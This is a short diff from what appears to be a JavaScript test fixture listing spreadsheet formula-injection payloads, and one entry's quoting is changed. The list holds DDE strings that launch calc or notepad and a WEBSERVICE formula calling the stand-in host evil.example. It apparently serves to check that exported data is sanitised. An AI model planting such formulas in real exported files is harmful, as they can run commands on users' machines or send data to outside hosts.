@@ -17,7 +17,7 @@ const FORMULAS = [
   "=cmd|' /C calc'!A0",
   "+cmd|' /C notepad'!A0",
   "-2+3+cmd|' /C calc'!A0",
-  '@SUM(1+1)*cmd|\' /C calc\'!A0',
+  "@SUM(1+1)*cmd|' /C calc'!A0",
   '=WEBSERVICE("http://evil.example/")',
 ];
 /** Only `note` keeps leading blanks (places are trimmed), so tab and CR go there. */
